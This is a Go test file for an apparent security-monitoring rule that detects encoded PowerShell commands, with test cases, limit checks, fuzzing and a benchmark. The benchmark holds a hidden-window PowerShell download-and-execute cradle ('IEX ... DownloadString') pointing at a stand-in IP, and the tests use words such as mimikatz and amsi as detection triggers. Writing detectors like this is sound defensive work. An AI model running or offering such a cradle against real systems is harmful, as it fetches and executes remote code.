package main

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"flag"
	"os"
	"strings"
	"testing"
	utf "unicode/utf16"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	sdk "github.com/vedette-siem/vedette/sdk/go"
	"github.com/vedette-siem/vedette/sdk/go/abi"
)

var update = flag.Bool("update", false, "rewrite the wanted findings of the case file")

// encode is what PowerShell wants behind -EncodedCommand.
func encode(script string) string {
	var b []byte
	for _, u := range utf.Encode([]rune(script)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// expand replaces the text between two marks by what encode makes of it.
func expand(s, open, end string) string {
	before, rest, ok := strings.Cut(s, open)
	i := strings.LastIndex(rest, end)
	if !ok || i < 0 {
		return s
	}
	return before + encode(expand(rest[:i], "[[", "]]")) + rest[i+len(end):]
}

// rows is a batch of projected events with one column (ABI 6.2).
func rows(lines ...string) []byte {
	var e abi.RowsEncoder
	e.Begin(len(lines), 1, 1, 0)
	for _, l := range lines {
		e.Event(0)
		e.Cell(commandLine, l)
	}
	return e.Bytes()
}

type finding struct {
	Severity string `json:"severity"`
	Title    string `json:"title"`
	Reason   string `json:"reason"`
}

var severities = [...]string{"keep", "informational", "low", "medium", "high", "critical"}

func eval(t testing.TB, b *sdk.Buffers, lines ...string) map[uint32]finding {
	t.Helper()
	in := rows(lines...)
	status, out := sdk.RunRule(sdk.Rule{Eval: Eval}, in, b.Grow(len(in), 1<<20))
	if status != abi.StatusOK {
		t.Fatalf("status %d", status)
	}
	found := map[uint32]finding{}
	if err := abi.DecodeFindings(out, len(lines), func(f abi.Finding) {
		if !utf8.Valid(f.Title) && utf8.ValidString(strings.Join(lines, "")) {
			t.Errorf("the title is not UTF-8: %q", f.Title)
		}
		found[f.Event] = finding{severities[f.Severity], string(f.Title), string(f.Reason)}
	}); err != nil {
		t.Fatal(err)
	}
	return found
}

func TestCases(t *testing.T) {
	const file = "testdata/commands.txtar"
	a, err := txtar.ParseFile(file)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(a.Files[0].Data)), "\n")
	for i, l := range lines {
		lines[i] = expand(l, "{", "}")
	}
	found := eval(t, new(sdk.Buffers), lines...)
	var got bytes.Buffer
	enc := json.NewEncoder(&got)
	enc.SetEscapeHTML(false)
	for i := range lines {
		if f, ok := found[uint32(i)]; ok {
			err = enc.Encode(f)
		} else {
			_, err = got.WriteString("null\n")
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if *update {
		a.Files = append(a.Files[:1], txtar.File{Name: "want/findings.jsonl", Data: got.Bytes()})
		if err := os.WriteFile(file, txtar.Format(a), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	if d := cmp.Diff(string(a.Files[1].Data), got.String()); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

// Every trait is found by each of its words, however the letters are written.
func TestTraits(t *testing.T) {
	for _, tr := range traits {
		for _, word := range tr.words {
			f := eval(t, new(sdk.Buffers), "powershell -enc "+encode("x; "+strings.ToUpper(word)+" y"))[0]
			if !strings.Contains(f.Reason, tr.reason) {
				t.Errorf("%s: %+v", word, f)
			}
		}
	}
}

func TestLimits(t *testing.T) {
	if f := eval(t, new(sdk.Buffers), "powershell -enc "+encode(strings.Repeat("x", MaxScriptBytes+1)+"mimikatz")); strings.Contains(f[0].Reason, "credentials") || f[0].Severity != "low" {
		t.Errorf("beyond MaxScriptBytes: %+v", f[0])
	}
	script := "mimikatz"
	for range MaxLayers + 1 {
		script = "powershell -enc " + encode(script)
	}
	if f := eval(t, new(sdk.Buffers), script); strings.Contains(f[0].Reason, "credentials") || f[0].Severity != "high" {
		t.Errorf("beyond MaxLayers: %+v", f[0])
	}
	if f := eval(t, new(sdk.Buffers), "powershell -enc "+encode(strings.Repeat("é", MaxExcerptBytes))); len(f[0].Title) > MaxExcerptBytes+60 || !strings.HasSuffix(f[0].Title, "é…") {
		t.Errorf("beyond MaxExcerptBytes: %+v", f[0])
	}
	if f := eval(t, new(sdk.Buffers), "powershell -enc "+encode("dir")); len(f) != 0 {
		t.Errorf("fewer than MinCodeUnits: %+v", f[0])
	}
}

func FuzzEval(f *testing.F) {
	f.Add("powershell -enc "+encode("IEX 1"), "x")
	f.Add("pwsh –e \"SQBFAFgA", "powershell -e "+encode("powershell -e "+encode("😀 amsi")))
	f.Fuzz(func(t *testing.T, a, b string) {
		eval(t, new(sdk.Buffers), a, b, "powershell -enc "+encode(a))
	})
}

func BenchmarkEval(b *testing.B) {
	line := "powershell.exe -NoP -W Hidden -enc " + encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")
	lines := make([]string, 256)
	for i := range lines {
		lines[i] = line
	}
	in := rows(lines...)
	var buf sdk.Buffers
	buf.Grow(len(in), 1<<20)
	b.SetBytes(int64(len(line)))
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if i%len(lines) == 0 {
			sdk.RunRule(sdk.Rule{Eval: Eval}, in, &buf)
		}
	}
}
